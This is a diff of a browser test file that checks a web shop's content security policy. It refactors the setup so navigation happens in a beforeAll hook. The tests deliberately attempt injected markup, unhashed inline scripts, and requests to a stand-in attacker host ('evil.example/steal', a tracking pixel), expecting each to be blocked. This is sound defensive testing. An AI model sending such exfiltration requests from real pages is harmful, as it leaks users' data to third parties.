@@ -1,13 +1,15 @@
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { Article } from '#contract/articles.ts';
-import { openRoles, settled } from '#tests/support/browser/pages.ts';
+import { newCustomer } from '#tests/support/browser/customer.ts';
+import { settled } from '#tests/support/browser/pages.ts';
 import { shareShop } from '#tests/support/browser/running-shop.ts';
 import { forFile } from '#tests/support/server/for-file.ts';
 
 /** The content security policy allows all that the pages need, and blocks injected code. */
 
 const shop = forFile(await shareShop());
-const visitor = await (await openRoles(shop)).open('user');
+const visitor = await shop.visitor({ reducedMotion: 'reduce' });
+await (await newCustomer(shop.url)).signInto(visitor.context);
 const page = visitor.page;
 await visitor.context.addInitScript(() => {
   const seen: string[] = [];
@@ -59,6 +61,11 @@ describe('the pages', () => {
 const attempt = <T>(what: () => T) => page.evaluate(what);
 
 describe('the policy', () => {
+  beforeAll(async () => {
+    await page.goto('/');
+    await settled(page);
+  });
+
   it('contains neither unsafe-inline nor unsafe-eval, and is the same on cached pages', async () => {
     const ask = async () => {
       const response = await page.request.get('/');
@@ -71,8 +78,6 @@ describe('the policy', () => {
   });
 
   it('blocks markup, scripts and handlers that are made from text', async () => {
-    await page.goto('/');
-    await settled(page);
     const refused = await attempt(async () => {
       const tried = new Map<string, () => unknown>([
         ['innerHTML', () => Object.assign(document.createElement('div'), { innerHTML: '<b>hello</b>' })],
@@ -118,8 +123,6 @@ describe('the policy', () => {
   });
 
   it('blocks inline scripts and styles whose hashes are not listed', async () => {
-    await page.goto('/');
-    await settled(page);
     const drawn = await attempt(() => {
       const script = document.createElement('script');
       try {
@@ -142,8 +145,6 @@ describe('the policy', () => {
   });
 
   it('blocks requests to other sites, and any change of the page’s base', async () => {
-    await page.goto('/');
-    await settled(page);
     await attempt(async () => {
       await fetch('https://evil.example/steal').catch(() => {});
       const image = Object.assign(new Image(), { src: 'https://evil.example/pixel.png' });
